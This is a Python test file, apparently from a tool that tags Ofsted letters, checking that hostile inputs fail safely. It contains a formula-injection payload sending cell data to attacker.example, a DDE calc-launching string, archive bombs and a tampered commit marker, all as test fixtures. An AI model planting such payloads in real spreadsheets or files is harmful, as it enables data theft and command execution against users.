"""Hostile and unlucky inputs: nothing executed, nothing lost, nothing hangs.

Each case puts one hostile file beside a normal letter (or two writers on one file) and checks the
exit status, a one-line reason naming the file, that the normal letter is still tagged, that
nothing else changed (hashes before and after), and that no process or temporary file is left.
Hostile files are generated here, small enough to run in CI; the limits they cross are
``ofsted_themes.core.limits``. Timings are never asserted: a ``timeout`` guards against a hang.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import letter_factory as lf
import pandas as pd
import pytest

from ofsted_themes.core.limits import (
    MAX_FILE_BYTES,
    MAX_SENTENCES,
    MAX_TABLE_ROWS,
    MAX_WORKBOOK_XML_BYTES,
)
from ofsted_themes.core.tables import read_table, write_table
from ofsted_themes.labelling.store import append_labels, read_labels
from ofsted_themes.tagging.outputs import OutputSet, marker_path, recover

ROOT = Path(__file__).resolve().parents[1]
THEMES = ["cse", "missing", "staffing", "oversight"]
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'


def run(command: str, *args, cwd: Path = ROOT, timeout: int = 180) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    return subprocess.run(
        [sys.executable, "-m", command, *map(os.fsdecode, args)],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        errors="backslashreplace",
        timeout=timeout,  # a guard against a hang, not a timing assertion
        check=False,
    )


def tag(tagger_file: Path, out: Path, *inputs, cwd: Path = ROOT, **options):
    extra = [a for k, v in options.items() for a in (f"--{k.replace('_', '-')}", v)]
    summary, report = out.with_name("letters.csv"), out.with_name("report.html")
    return tag_here(*inputs, "--model", tagger_file, "--out", out, "--summary", summary,
                    "--report", report, *extra, cwd=cwd)  # fmt: skip


def tag_here(*args, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    """`python -m tag` run in this process (no interpreter start-up: the suite stays quick),
    from ``cwd``; the cases about processes and concurrency use real subprocesses instead."""
    from contextlib import redirect_stderr, redirect_stdout

    from ofsted_themes.cli import tag as command
    from ofsted_themes.cli.common import fail
    from ofsted_themes.core.errors import OfstedThemesError

    out, err, before = io.StringIO(), io.StringIO(), Path.cwd()
    os.chdir(cwd)
    try:
        with redirect_stdout(out), redirect_stderr(err):
            try:
                try:
                    status = command.main([os.fsdecode(a) for a in args])
                except OfstedThemesError as cause:  # as `run_command` turns it into a status
                    fail(cause)
            except SystemExit as stop:
                status = stop.code
    finally:
        os.chdir(before)
    return subprocess.CompletedProcess(["tag", *args], int(status), out.getvalue(), err.getvalue())


def normal_letter(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return lf.make_text_letter(folder / "normal.txt", "jtai")


def hashes(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def leftovers(folder: Path) -> list[str]:
    """Temporary or staged files left anywhere under ``folder``."""
    return [p.name for p in folder.rglob("*") if ".tmp" in p.name or p.name.startswith(".staging")]


def failure_lines(done: subprocess.CompletedProcess, name: str) -> list[str]:
    """The failure table's lines naming ``name``; the command never shows a traceback."""
    assert "Traceback" not in done.stderr, done.stderr[-2000:]
    return [line for line in done.stderr.splitlines() if name in line]


def documents(out: Path) -> set[str]:
    return set(read_table(out)["document"])


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --- 1. spreadsheet-safe outputs ---------------------------------------------------------------


def test_sentences_and_names_that_start_a_formula_are_text_in_every_table(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    (letters / "=cmd.txt").write_text(f"{FORMULA} is what the letter says here.\n+1 and more.\n")
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, "=cmd.txt", "normal.txt", cwd=letters)  # names as given
    assert done.returncode == 0, done.stderr
    raw = out.read_text(encoding="utf-8") + out.with_name("letters.csv").read_text()
    cells = [c.strip('"') for line in raw.splitlines() for c in line.split(",")]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "'=cmd.txt" in raw and "'=HYPERLINK" in raw
    back = read_table(out)  # the raw text, as the letter has it
    assert back["text"].str.startswith("=HYPERLINK").any()
    assert "=cmd.txt" in set(back["document"])


def test_a_resumed_csv_keeps_a_formula_council_quoted(tagger_file, tmp_path):
    """A resume rewrote every earlier row's council and year from the summary, bare: a
    council that starts a formula lost its quote in the sentence table."""
    letters = tmp_path / "letters"
    letters.mkdir()
    council = FORMULA.replace(",", ";")  # one cell of the table: no comma to quote
    (letters / "t.csv").write_text(
        f"document,council,text\na,{council},Children go missing from care.\n", encoding="utf-8"
    )
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, str(letters / "t.csv")).returncode == 0
    normal_letter(letters)
    done = tag(tagger_file, out, str(letters / "t.csv"), str(letters / "normal.txt"), "--resume")
    assert done.returncode == 0, done.stderr
    cells = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [row["council"] for row in cells if row["document"].endswith("::a")] == [f"'{council}"]
    assert council in set(read_table(out)["council"])  # read back as it was


@pytest.mark.parametrize("how", ["moved", "copied", "outputs moved"])
def test_resume_after_the_project_folder_moves_tags_no_letter_twice(tagger_file, tmp_path, how):
    """The letters' names start at the folder recorded by absolute path: resumed in a project
    folder renamed (or copied), every letter was another, tagged again and counted twice; the
    outputs moved away from the letters must not lose their folder either."""
    first, second = tmp_path / "proj1", tmp_path / "proj2"
    normal_letter(first / "inbox")
    out = Path("reports") / "tags.csv"
    assert tag(tagger_file, first / out, "inbox", cwd=first).returncode == 0
    before = documents(first / out)
    if how == "moved":
        first.rename(second)
    elif how == "copied":
        shutil.copytree(first, second)
    else:  # the letters stay; the outputs go to an archive beside the project
        second.mkdir()
        (first / "reports").rename(second / "reports")
    letters = second if how != "outputs moved" else first
    lf.make_text_letter(letters / "inbox" / "later.txt", "focused_visit")
    done = tag(tagger_file, second / out, "inbox", "--resume", cwd=letters)
    assert done.returncode == 0, done.stderr
    assert "Tagged 1 letter" in done.stdout
    assert documents(second / out) == before | {"inbox/later.txt"}
    assert len(read_table(second / out.with_name("letters.csv"))) == 2


def test_resume_onto_an_emptied_jsonl_summary_is_refused(tagger_file, tmp_path):
    """An emptied JSONL summary reads as a table of no columns: a KeyError traceback."""
    normal_letter(tmp_path / "inbox")
    out, summary = tmp_path / "out" / "tags.csv", tmp_path / "out" / "letters.jsonl"
    assert tag(tagger_file, out, "inbox", cwd=tmp_path, summary=str(summary)).returncode == 0
    summary.write_bytes(b"")
    done = tag(tagger_file, out, "inbox", "--resume", cwd=tmp_path, summary=str(summary))
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "letters.jsonl has no document column" in done.stderr


@pytest.mark.parametrize("root", [1, ["a"], None])
def test_a_marker_with_a_root_of_another_type_is_not_acted_on(tagger_file, tmp_path, root):
    """A damaged marker's root (a number, a list) stopped a resume with a TypeError."""
    normal_letter(tmp_path / "inbox")
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, "inbox", cwd=tmp_path).returncode == 0
    marker = marker_path(out)
    record = json.loads(marker.read_text(encoding="utf-8"))
    marker.write_text(json.dumps(record | {"root": root, "root_from_out": root}), "utf-8")
    done = tag(tagger_file, out, "inbox", "--resume", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert documents(out) == {"inbox/normal.txt"}


def test_jsonl_keeps_raw_text_and_xlsx_stores_formulas_as_text(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    (letters / "a").mkdir(parents=True)
    (letters / "a" / "x.txt").write_text(f"{FORMULA} is in this letter.\n")
    for suffix in (".jsonl", ".xlsx"):
        out = tmp_path / suffix.strip(".") / f"tags{suffix}"
        assert tag(tagger_file, out, letters).returncode == 0
        assert read_table(out)["text"].str.startswith("=HYPERLINK").any()
    sheet = zipfile.ZipFile(tmp_path / "xlsx" / "tags.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"=HYPERLINK" in sheet  # a string cell, never a formula


def test_the_label_store_keeps_formulas_quoted_on_disk_and_raw_when_read(tmp_path):
    store = tmp_path / "user.csv"
    row = {"id": "user-1", "document": "=a.pdf", "text": FORMULA, "page": "1",
           "sentence_no": "1", "source_digest": "0", "labelled_at": "2026-01-01T00:00:00+00:00",
           "cse": "0", "missing": "0", "staffing": "0", "oversight": "1"}  # fmt: skip
    append_labels(store, pd.DataFrame([row]), THEMES)
    assert "'=HYPERLINK" in store.read_text() and "'=a.pdf" in store.read_text()
    assert read_labels(store, THEMES).loc[0, "text"] == FORMULA


def test_a_bare_carriage_return_cannot_start_a_row_of_its_own(tmp_path):
    frame = pd.DataFrame({"text": ["Leaders are good.\r=cmd|' /C calc'!A0", "Next."], "n": [1, 2]})
    back = read_table(write_table(frame, tmp_path / "t.csv"))
    assert back["text"].tolist() == ["Leaders are good.\n=cmd|' /C calc'!A0", "Next."]


def test_text_like_missing_values_is_read_back_as_written(tmp_path):
    frame = pd.DataFrame({"text": ["N/A", "null", "NA"], "document": ["007", "None", "x"]})
    for suffix in (".csv", ".xlsx"):
        assert read_table(write_table(frame, tmp_path / f"t{suffix}")).equals(frame)


def test_text_that_already_starts_with_a_quote_round_trips(tmp_path):
    frame = pd.DataFrame({"text": ["'=x", "''+y", "'''@z", "'plain", "-"], "n": [1, 2, 3, 4, 5]})
    assert read_table(write_table(frame, tmp_path / "t.csv")).equals(frame)


# --- 2. bounded work per input -----------------------------------------------------------------


def docx_with_xml(size: int) -> bytes:
    paragraph = b"<w:p><w:r><w:t>" + b"A" * 1000 + b"</w:t></w:r></w:p>"
    body = paragraph * (size // len(paragraph) + 1)
    document = b'<w:document xmlns:w="x"><w:body>' + body + b"</w:body></w:document>"
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": document})


def xlsx_with_xml(size: int) -> bytes:
    return zipped({"xl/worksheets/sheet1.xml": b"<c/>" * (size // 4)})


def rows_after_a_gap(path: Path) -> None:
    """A workbook of a few rows, then one far below the row limit past blank rows: pandas read
    the limit's rows, dropped the blank ones, and left the last row out without a word."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["document", "text"])
    sheet.append(["a", "Workers are tired."])
    sheet[f"A{MAX_TABLE_ROWS + 10}"] = "a"
    sheet[f"B{MAX_TABLE_ROWS + 10}"] = "Children go missing and are not offered interviews."
    book.save(path)


def one_far_cell(path: Path, cell: str) -> None:
    """A workbook of a few bytes with one cell far out: the reader builds the grid it spans
    (at XFD800, 956 MB), past any time limit's reach."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["text"])
    book.active.append(["Workers are tired."])
    book.active[cell] = "x"
    book.save(path)


def sparse(path: Path, size: int) -> None:
    """A file of ``size`` bytes that takes no disk space (a table header, then zeros)."""
    path.write_text("text\n")
    os.truncate(path, size)


HOSTILE = {  # name: (make the file in a folder, words its reason must hold)
    "bomb.docx": (lambda p: p.write_bytes(docx_with_xml(11_000_000)), "MB of XML"),
    "bomb.xlsx": (lambda p: p.write_bytes(xlsx_with_xml(MAX_WORKBOOK_XML_BYTES + 10**6)),
                  "MB of XML"),
    "rows.csv": (lambda p: p.write_text("text\n" + "Workers are tired.\n" * (MAX_TABLE_ROWS + 1)),
                 f"over {MAX_TABLE_ROWS:,} rows"),
    "gap.xlsx": (rows_after_a_gap, f"over {MAX_TABLE_ROWS:,} rows"),
    "wide.xlsx": (lambda p: one_far_cell(p, "XFD800"), "spans 800 rows of 16,384 columns"),
    "deep.xlsx": (lambda p: one_far_cell(p, "ZZ150000"), "spans 150,000 rows of 702 columns"),
    "sentences.txt": (lambda p: p.write_text("Workers are tired.\n" * (MAX_SENTENCES + 1)),
                      f"over {MAX_SENTENCES:,} sentences"),
    "huge.csv": (lambda p: sparse(p, MAX_FILE_BYTES + 1), "file too large"),
    "dots.txt": (lambda p: p.write_text("a. " * 3_000_000), "took over 2 s"),  # ~8 s to split
    "cell.csv": (lambda p: p.write_text("text\n" + "word " * 5_000 + "\n"), "the limit is 20"),
}  # fmt: skip


def test_a_workbook_of_many_rows_is_read_as_its_csv_is(tmp_path):
    """A workbook of 50,000 rows (12 MB of XML) was refused as "an archive bomb" by the bound
    set for a Word document's XML, and openpyxl took 16-18 s over 200,000 rows, past the reading
    bound: the bounds say 200,000 rows a table."""
    from openpyxl import Workbook

    from ofsted_themes.tagging.letters import read_sentence_table

    rows = [[f"l{i // 400}", "Leeds", 2022, f"Plans drift, ref {i}."] for i in range(50_000)]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("S")
    sheet.append(["document", "council", "year", "text"])
    for row in rows:
        sheet.append(row)
    book.save(tmp_path / "many.xlsx")
    pd.DataFrame(rows, columns=["document", "council", "year", "text"]).to_csv(
        tmp_path / "many.csv", index=False
    )
    read = {
        kind: read_sentence_table(tmp_path / f"many.{kind}", f"many.{kind}", "text")
        for kind in ("xlsx", "csv")
    }
    assert len(read["xlsx"]) == 125 and sum(map(len, read["xlsx"])) == 50_000
    for workbook, table in zip(read["xlsx"], read["csv"], strict=True):
        assert workbook.sentences["text"].tolist() == table.sentences["text"].tolist()
        assert workbook.metadata == table.metadata


def damaged_xlsx() -> bytes:
    buffer = io.BytesIO()
    pd.DataFrame({"text": ["Caseloads are high."]}).to_excel(buffer, index=False)
    archive = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    entries = {i.filename: archive.read(i.filename) for i in archive.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    return zipped(entries | {sheet: entries[sheet][: len(entries[sheet]) // 2]})


def docx_declaring_xml_elsewhere(size: int) -> bytes:
    """A DOCX whose [Content_Types].xml makes .bin parts XML: parsed all the same."""
    types = (
        b'<Types><Default Extension="bin" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return zipped({"[Content_Types].xml": types, "word/document.bin": b"<w:p/>" * (size // 6)})


def with_damaged_stream(archive: bytes) -> bytes:
    """``archive`` with bytes of its first compressed member flipped: its directory intact."""
    data = bytearray(archive)
    start = data.index(b"PK\x03\x04") + 30 + data[26] + data[27] * 256 + 20
    data[start : start + 20] = bytes(b ^ 0xFF for b in data[start : start + 20])
    return bytes(data)


def a_word_file(path: Path) -> None:
    import docx

    document = docx.Document()
    document.add_paragraph("A letter saved under a workbook's name.")
    document.save(path)


def charts_alone(path: Path) -> None:
    """A workbook of one chart sheet: "damaged .xlsx (ValueError: Sheet name is an empty
    list)" before."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    book.create_chartsheet("Chart")
    book.save(path)


DAMAGED = {  # name: (make the file, words its reason must hold)
    "half.xlsx": (lambda p: p.write_bytes(damaged_xlsx()), "damaged .xlsx"),
    "old.xlsx": (lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)),
                 "old-format (.xls)"),
    "word.xlsx": (lambda p: a_word_file(p), "a Word document named .xlsx"),
    "charts.xlsx": (lambda p: charts_alone(p), "chart sheets alone, no worksheet"),
    "shifted.csv": (lambda p: p.write_text("text\nCaseloads are high, and rising.\nStaff stay.\n"),
                    "more fields than the header"),
    "later.csv": (lambda p: p.write_text("council,text\nLeeds,Plans.\nYork,Caseloads, high.\n"),
                  "line 3, saw 3 (a separator in an unquoted cell?): quote"),
    "declared.docx": (lambda p: p.write_bytes(docx_declaring_xml_elsewhere(11_000_000)),
                      "MB of XML"),
    "flipped.docx": (lambda p: p.write_bytes(with_damaged_stream(docx_with_xml(100_000))),
                     "damaged"),
}  # fmt: skip


@pytest.mark.parametrize("name", [*HOSTILE, *DAMAGED])
def test_a_hostile_or_damaged_file_fails_alone_with_its_reason(tagger_file, tmp_path, name):
    letters = tmp_path / "letters"
    normal_letter(letters)
    make, reason = (HOSTILE | DAMAGED)[name]
    make(letters / name)
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, letters, time_limit="2")
    assert done.returncode == 1, done.stderr
    [line] = failure_lines(done, name)
    assert reason in line
    assert documents(out) == {str(letters / "normal.txt")}  # outside the project: in full
    assert read_table(out.with_name("failures.csv"))["file"].str.endswith(name).all()
    assert not leftovers(tmp_path)


def test_a_long_line_is_split_in_linear_time_into_capped_sentences(tagger_file, tmp_path):
    from ofsted_themes.reading.sentences import MAX_SENTENCE_CHARS

    letters = tmp_path / "letters"
    normal_letter(letters)
    sentence = "Managers do not check the plans of children who are at risk. "
    (letters / "long.txt").write_text("word " * 5_000 + sentence * 7_000)  # 0.45 MB, one line
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, letters)
    assert done.returncode == 0, done.stderr
    tags = read_table(out)
    long = tags[tags["document"].str.endswith("long.txt")]
    assert len(long) >= 7_000
    assert long["text"].str.len().max() <= MAX_SENTENCE_CHARS


def test_a_table_cell_spanning_two_billion_columns_is_read_once(tagger_file, tmp_path):
    import docx

    document = docx.Document()
    cell = document.add_table(rows=1, cols=1).cell(0, 0)
    cell.text = "Caseloads are too high for social workers."
    span = cell._tc.get_or_add_tcPr()._add_gridSpan()
    span.val = 2**31 - 1  # row.cells would yield the cell once per column
    letters = tmp_path / "letters"
    letters.mkdir()
    document.save(letters / "span.docx")
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, letters, time_limit="5")
    assert done.returncode == 0, done.stderr
    assert read_table(out)["text"].tolist() == ["Caseloads are too high for social workers."]


def test_a_text_column_chosen_beside_a_text_column_carries_that_one(tagger_file, tmp_path):
    table = tmp_path / "findings.csv"
    columns = {"text": ["An old note."], "input_text": ["An older one."], "finding": ["High."]}
    pd.DataFrame(columns).to_csv(table, index=False)
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, table, text_column="finding")
    assert done.returncode == 0, done.stderr
    row = read_table(out).iloc[0]
    assert (row["text"], row["input_input_text"], row["input_text"]) == (
        "High.", "An old note.", "An older one.",
    )  # fmt: skip


def test_a_ctrl_c_that_meets_the_time_limit_still_stops_the_run(tmp_path, monkeypatch):
    from ofsted_themes.core.limits import LimitExceeded
    from ofsted_themes.tagging import letters

    def interrupted_read(*args):
        try:
            raise KeyboardInterrupt
        finally:  # the alarm, due at the same moment, raises as the interrupt unwinds
            raise LimitExceeded("reading the file took over 1 s")

    monkeypatch.setattr(letters, "read_input", interrupted_read)
    with pytest.raises(KeyboardInterrupt):
        letters.read_job(tmp_path / "a.pdf", "a.pdf", "text", 1.0)
    monkeypatch.setattr(letters, "read_input", lambda *a: (_ for _ in ()).throw(LimitExceeded("x")))
    assert letters.read_job(tmp_path / "a.pdf", "a.pdf", "text", 1.0).error == "x"


# --- 3. writes that cannot be lost -------------------------------------------------------------


def labels_file(path: Path, prefix: str, n: int) -> Path:
    rows = [{"document": f"{prefix}.pdf", "page": 1, "sentence_no": i,
             "text": f"Sentence {prefix} number {i} about workers.", "source_digest": prefix,
             "cse": 0, "missing": 0, "staffing": 1, "oversight": 0} for i in range(n)]  # fmt: skip
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


def test_two_label_imports_at_once_keep_every_label(tmp_path):
    store = tmp_path / "labels" / "user.csv"
    files = [labels_file(tmp_path / f"{p}.csv", p, 3000) for p in ("north", "south")]
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    imports = [
        subprocess.Popen(
            [sys.executable, "-m", "label", "import", str(f), "--labels", str(store)],
            cwd=ROOT,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for f in files
    ]
    for process in imports:
        out, err = process.communicate(timeout=300)
        assert process.returncode == 0, err
        assert "Imported 3000" in out
    assert len(read_labels(store, THEMES)) == 6000


def test_a_second_tag_onto_the_same_out_is_refused_and_the_first_completes(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    (letters / "slow.txt").write_text("a. " * 1_000_000)  # several seconds of splitting
    out = tmp_path / "out" / "tags.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    first = subprocess.Popen(
        [sys.executable, "-m", "tag", str(letters), "--model", str(tagger_file), "--out",
         str(out), "--no-report", "--jobs", "1", "--time-limit", "0"],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    wait_until_locked(out)  # the first holds the lock while it reads the slow letter
    second = tag(tagger_file, out, letters)
    assert second.returncode == 2
    assert "being written by another tag run" in second.stderr
    first.communicate(timeout=300)
    assert first.returncode == 0
    assert len(documents(out)) == 2


def test_a_shared_lock_folder_that_cannot_be_used_leaves_this_user_their_own(tmp_path, monkeypatch):
    """Another user's unwritable lock folder (here a file in its place: root may write any
    folder) stopped every run on "Permission denied"."""
    import tempfile

    from ofsted_themes.core.locks import Busy, exclusive, lock_path

    monkeypatch.setattr(tempfile, "gettempdir", lambda: str(tmp_path))
    (tmp_path / "ofsted-themes-locks").write_text("not a folder")
    target = tmp_path / "tags.csv"
    with exclusive(target, 0, "tag run"):
        assert lock_path(target).parent == tmp_path / f"ofsted-themes-locks-{os.getuid()}"
        assert lock_path(target).is_file()
    (tmp_path / "ofsted-themes-locks").unlink()
    assert lock_path(target).parent == tmp_path / "ofsted-themes-locks"  # shared once it can be
    (tmp_path / "ofsted-themes-locks").rmdir()
    (tmp_path / "ofsted-themes-locks").write_text("not a folder")
    own = tmp_path / f"ofsted-themes-locks-{os.getuid()}"
    shutil.rmtree(own)
    own.symlink_to(tmp_path / "elsewhere", target_is_directory=True)  # planted by another
    (tmp_path / "elsewhere").mkdir()
    with pytest.raises(Busy, match="is not this user's own folder"):
        lock_path(target)


def wait_until_locked(path: Path, seconds: float = 120) -> None:
    """Return once another process holds the lock on ``path``."""
    from filelock import FileLock, Timeout

    from ofsted_themes.core.locks import lock_path

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            with FileLock(lock_path(path)).acquire(timeout=0):
                pass
        except Timeout:
            return
        time.sleep(0.1)
    raise AssertionError(f"nothing locked {path}")


def commit_dying_before_the_renames(outputs: OutputSet) -> None:
    import ofsted_themes.tagging.outputs as module

    def crash(*_):  # the process dies after writing the marker, before any rename
        raise SystemExit(137)

    real = module._finish
    module._finish = crash
    try:
        with pytest.raises(SystemExit):
            outputs.commit()
    finally:
        module._finish = real


def test_a_file_written_through_a_link_is_its_target_and_the_link_stays(tmp_path):
    """A label store kept elsewhere behind a link was replaced by a file of its own at the
    link: the labels imported went there, and the store never had them."""
    from ofsted_themes.core.atomic import write_atomic

    (tmp_path / "shared").mkdir()
    target, link = tmp_path / "shared" / "user.csv", tmp_path / "user.csv"
    target.write_text("old")
    link.symlink_to(target)
    write_atomic(link, lambda f: f.write("new"))
    assert link.is_symlink() and target.read_text() == "new"
    assert not leftovers(tmp_path) and not leftovers(tmp_path / "shared")
    dangling = tmp_path / "elsewhere.csv"  # a link into a share not mounted: not made locally
    dangling.symlink_to(tmp_path / "share" / "labels" / "user.csv")
    with pytest.raises(FileNotFoundError, match="a link to a folder that does not exist"):
        write_atomic(dangling, lambda f: f.write("new"))
    assert not (tmp_path / "share").exists()


def test_the_temporary_of_a_staged_file_left_by_a_killed_run_is_removed(tmp_path):
    """A run killed while writing a staged summary left "..letters.csv.<pid>.….tmp.csv.<pid>.…
    .tmp" (the staged file's own temporary), which no later run removed."""
    from ofsted_themes.core.atomic import remove_stale_temporaries

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()  # fmt: skip
    summary = tmp_path / "letters.csv"
    dead = [f".letters.csv.{gone}.ab.tmp.csv", f"..letters.csv.{gone}.ab.tmp.csv.{gone}.cd.tmp"]
    live = f"..letters.csv.{os.getpid()}.ef.tmp.csv.{os.getpid()}.gh.tmp"  # a running writer's
    for name in [*dead, live]:
        (tmp_path / name).write_text("")
    remove_stale_temporaries(summary)
    assert sorted(p.name for p in tmp_path.iterdir()) == [live]


def test_an_interrupted_commit_through_a_link_and_with_a_removal_is_finished(tmp_path):
    (tmp_path / "data").mkdir()
    target, out = tmp_path / "data" / "t.csv", tmp_path / "tags.csv"
    target.write_text("old")
    out.symlink_to(target)
    failures = tmp_path / "failures.csv"
    failures.write_text("an earlier run's")
    outputs = OutputSet(out, record={"model": "m", "root": str(tmp_path)})
    outputs.stage(out).write_text("new tags")
    outputs.remove(failures)
    commit_dying_before_the_renames(outputs)
    assert target.read_text() == "old" and failures.exists()
    recover(out)
    assert target.read_text() == "new tags" and not failures.exists()
    assert not leftovers(tmp_path)


def test_a_commit_interrupted_between_renames_is_finished_by_the_next_run(tmp_path):
    out, summary = tmp_path / "tags.csv", tmp_path / "letters.csv"
    for path, text in ((out, "old"), (summary, "old")):
        path.write_text(text)
    outputs = OutputSet(out, record={"model": "m", "root": str(tmp_path)})
    outputs.stage(out).write_text("new tags")
    outputs.stage(summary).write_text("new summary")
    commit_dying_before_the_renames(outputs)
    assert out.read_text() == "old" and marker_path(out).exists()
    assert recover(out, [summary])["model"] == "m"
    assert (out.read_text(), summary.read_text()) == ("new tags", "new summary")
    assert not leftovers(tmp_path)


@pytest.mark.parametrize(
    "plan",
    [
        {"state": "committing", "renames": [["{victim2}", "{elsewhere}"]], "removes": ["{victim}"]},
        {"state": "committing", "renames": [["{victim2}"]], "removes": "{victim}"},
        [],
    ],
    ids=["other files", "malformed", "not a record"],
)
def test_a_commit_marker_acts_only_on_the_outputs_own_staged_files(tagger_file, tmp_path, plan):
    victim, victim2 = tmp_path / "victim.txt", tmp_path / "victim2.txt"
    for path in (victim, victim2):
        path.write_text("keep me")
    out = tmp_path / "out" / "tags.csv"
    out.parent.mkdir()
    paths = {"victim": victim, "victim2": victim2, "elsewhere": tmp_path / "elsewhere.txt"}
    marker = json.dumps(plan)
    for name, path in paths.items():
        marker = marker.replace("{" + name + "}", str(path))
    marker_path(out).write_text(marker)
    done = tag(tagger_file, out, normal_letter(tmp_path / "letters"))
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert victim.read_text() == victim2.read_text() == "keep me"
    assert not (tmp_path / "elsewhere.txt").exists()


def test_the_mlflow_store_is_created_once_when_two_commands_start_together(tmp_path):
    uri = f"sqlite:///{tmp_path / 'mlflow.db'}"
    code = ("import sys; from ofsted_themes.tracking.store import connect, use_experiment; "
            "connect(sys.argv[1]); use_experiment('train'); print('ok')")  # fmt: skip
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    starts = [
        subprocess.Popen([sys.executable, "-c", code, uri], cwd=ROOT, env=env,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(3)
    ]  # fmt: skip
    for process in starts:
        out, err = process.communicate(timeout=300)
        assert process.returncode == 0 and out.strip() == "ok", err[-2000:]


# --- 4. paths checked before work --------------------------------------------------------------


@pytest.mark.parametrize(
    ("where", "message"),
    [
        ("input", "is one of the inputs"),
        ("summary", "is the same file as --out"),
        ("folder", "is a folder"),
    ],
)
def test_outputs_onto_inputs_or_each_other_are_refused_before_work(
    tagger_file, tmp_path, where, message
):
    letters = tmp_path / "letters"
    normal_letter(letters)
    table = tmp_path / "sentences.csv"
    table.write_text("text\nManagers check plans.\n")
    (tmp_path / "o" / "folder.csv").mkdir(parents=True)
    outs = {"input": table, "summary": tmp_path / "o" / "tags.csv"}
    out = outs.get(where, tmp_path / "o" / "folder.csv")
    before = hashes(tmp_path)
    summary = out if where == "summary" else tmp_path / "o" / "letters.csv"
    done = tag_here(letters, table, "--model", tagger_file, "--out", out, "--summary", summary,
                    "--no-report")  # fmt: skip
    assert done.returncode == 2
    assert message in done.stderr and "Traceback" not in done.stderr
    assert hashes(tmp_path) == before


@pytest.mark.parametrize("resume", [False, True])
def test_outputs_kept_in_the_folder_of_letters_are_written_again_run_after_run(
    tagger_file, tmp_path, resume
):
    """The second run found the first's tables among the letters and refused them as its own
    inputs ("it would be overwritten"): every later run, resumed or not, was refused."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    out = letters / "results" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0
    again = tag(tagger_file, out, letters, *(["--resume"] if resume else []))
    assert again.returncode == 0 and "Traceback" not in again.stderr, again.stderr
    summary = read_table(out.with_name("letters.csv"))
    assert [Path(d).name for d in summary["document"]] == ["normal.txt"]


def test_a_folder_holding_only_the_runs_own_outputs_is_nothing_to_tag(tagger_file, tmp_path):
    """Passed over as this run's own, its outputs left nothing to tag: the run wrote empty
    tables over the last run's, exit 0."""
    letters = tmp_path / "letters"
    letter = normal_letter(letters)
    out = letters / "results" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0
    letter.unlink()
    before = hashes(out.parent)
    done = tag(tagger_file, out, letters)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "no letters to tag, only this run's own outputs" in done.stderr
    assert hashes(out.parent) == before


def test_the_runs_own_report_is_passed_over_when_it_writes_none(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    out = letters / "results" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0  # with its report
    done = tag_here(letters, "--model", tagger_file, "--out", out, "--no-report")
    assert done.returncode == 0, done.stdout + done.stderr  # the report was a failure: exit 1


def test_an_output_name_too_long_for_its_staged_copy_is_refused_before_work(tagger_file, tmp_path):
    """A 230-byte name is legal, but the staged copy beside it is not: the run failed at the
    end, its work lost."""
    letters = tmp_path / "letters"
    normal_letter(letters)
